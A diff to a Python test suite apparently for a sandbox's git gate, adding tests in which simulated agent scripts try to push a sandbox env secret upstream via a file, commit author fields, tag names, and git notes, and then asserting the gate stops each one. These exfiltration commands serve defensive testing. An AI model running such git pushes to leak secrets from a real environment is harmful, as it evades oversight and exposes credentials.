@@ -525,8 +525,14 @@ class Git(_Family):
         key.write_text(engine.run(["exec", name, "cat", "/srv/client/id_ed25519"]).stdout)
         key.chmod(0o600)
         cls.key_line = key.read_text().splitlines()[1]
+        # The bottle's own secret (a ``${HOST_VAR}`` env value, which the agent holds; the attacks
+        # write it in as the other families do): no token format of its own, so only the gate's
+        # knowledge of the bottle's values can find it.
+        cls.own_secret = "violet-harbour-" + "".join(esc.secrets.choice("bdfhjkmnpqrstvwxz") for _ in range(14))
         cls.bottle_md = f"""\
 ---
+env:
+  GIT_SECRET: "${{BB_TEST_GIT_SECRET}}"
 egress:
   log: 2
 git-gate:
@@ -541,25 +547,28 @@ git-gate:
       token_ref: BB_TEST_LIB_TOKEN
 ---
 """
+        own = {"GIT_SECRET": cls.own_secret}
         cls.bottle, cls.launcher = a.launch(cls.bottle_md, credentials={"BB_TEST_LIB_TOKEN": cls.gate_token},
-                                            upstream_ca_pem=ca.cert.read_text())
+                                            env=own, known_secrets=own, upstream_ca_pem=ca.cert.read_text())
 
     def upstream_evidence(self, m: str) -> list[str]:
         evidence = []
         for repo in ("lib", "app"):
             git = ["exec", "-u", "git", self.upstream, "git", "-C", f"/srv/git/{repo}.git"]
-            history = engine.run([*git, "log", "--all", "-p", "--format=%H%n%B"], timeout=60, check=False).stdout
-            if FAKE_AWS_KEY in history:
-                evidence.append(f"the secret reached the upstream {repo}.git")
+            history = engine.run([*git, "log", "--all", "-p", "--format=%H%n%an <%ae>%n%cn <%ce>%n%B"],
+                                 timeout=60, check=False).stdout
+            for what, value in (("the cloud key", FAKE_AWS_KEY), ("the bottle's own secret", self.own_secret)):
+                if value in history:
+                    evidence.append(f"{what} reached the upstream {repo}.git")
             refs = engine.run([*git, "for-each-ref", "--format=%(refname)"], timeout=30, check=False).stdout
-            evidence += [f"{repo}.git has {ref}" for ref in refs.split() if m in ref]
+            evidence += [f"{repo}.git has {ref}" for ref in refs.split() if m in ref or self.own_secret in ref]
         return evidence
 
     def push(self, script: str) -> None:
         m = esc.marker("git")
         clone = ("cd /home/node/workspace && rm -rf w-@@M@@ && git clone -q https://@@UP@@/lib.git w-@@M@@ "
                  "&& cd w-@@M@@ || exit 1\n")
-        out = self.attack(clone + script, M=m, UP=UPSTREAM_HOST, KEY=FAKE_AWS_KEY)
+        out = self.attack(clone + script, M=m, UP=UPSTREAM_HOST, KEY=FAKE_AWS_KEY, OWN=self.own_secret)
         self.assertStopped(self.upstream_evidence(m), out)
 
     def test_secret_in_a_file(self) -> None:
@@ -578,6 +587,20 @@ git-gate:
                   "git push -q origin amend-@@M@@:refs/heads/clean-@@M@@; git push -q origin --delete clean-@@M@@; "
                   "echo '@@KEY@@' >> a-@@M@@.txt && git commit -qa --amend --no-edit && "
                   "git push -f origin amend-@@M@@:refs/heads/clean-@@M@@")
+
+    def test_bottle_secret_in_a_file(self) -> None:
+        self.push('echo "db = @@OWN@@" > own-@@M@@.txt && git add . && git commit -qm config && '
+                  "git push origin HEAD:main")
+
+    def test_bottle_secret_as_the_author(self) -> None:
+        self.push('git -c user.name="@@OWN@@" -c user.email="@@OWN@@@x.invalid" commit -q --allow-empty '
+                  "-m 'author @@M@@' && git push origin HEAD:refs/heads/author-@@M@@")
+
+    def test_bottle_secret_as_a_tag_name(self) -> None:
+        self.push('git tag "v-@@OWN@@" && git push origin "v-@@OWN@@"')
+
+    def test_bottle_secret_in_a_note(self) -> None:
+        self.push('git notes add -m "note @@M@@ @@OWN@@" && git push origin refs/notes/commits')
 
     def test_push_around_the_gate(self) -> None:
         ip = engine.run(["inspect", "-f", "{{range .NetworkSettings.Networks}}{{.IPAddress}} {{end}}", self.upstream],
